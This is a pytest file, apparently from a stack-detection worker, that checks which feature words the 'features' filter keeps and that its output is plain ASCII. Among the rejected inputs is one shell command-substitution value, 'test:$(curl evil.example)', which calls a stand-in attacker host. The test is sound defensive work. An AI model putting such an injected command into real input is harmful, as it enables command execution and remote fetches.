"""The words of a stack: short, plain, and no sentence of anybody's."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workers.detect.analysis import Analysis
from workers.steps.features import features


def test_words_of_the_tables_pass() -> None:
    """As detection writes them, in its order."""
    words = (
        "dependency:@nestjs/core",
        "dependency:spring-boot-starter-web",
        "has:tests",
        "language:typescript",
        "lint:ruff",
        "manager:npm",
        "version:3.12",
        "with:c",
    )
    assert features(Analysis(features=words)) == words


@pytest.mark.parametrize(
    "word",
    [
        "pytest",
        "dependency:",
        "dependency:Acme Secret",
        "dependency:acme\nsecret",
        "dependency:" + "a" * 41,
        "version:SECRET-TENANT-A",
        "version:3.12-secret",
        "test:$(curl evil.example)",
        "test:pytest\u200b",
        "Language:go",
        "x" * 200,
        "",
    ],
)
def test_anything_else_stays(word: str) -> None:
    """Bare names, blanks, capitals, control characters, long strings, versions that are none."""
    assert features(Analysis(features=("language:go", word))) == ("language:go",)


@given(st.lists(st.text(max_size=80), max_size=5))
def test_what_passes_is_plain(words: list[str]) -> None:
    """ASCII, printable, without blanks, at most 53 characters."""
    for word in features(Analysis(features=tuple(words))):
        assert word.isascii()
        assert word.isprintable()
        assert " " not in word
        assert len(word) <= 53
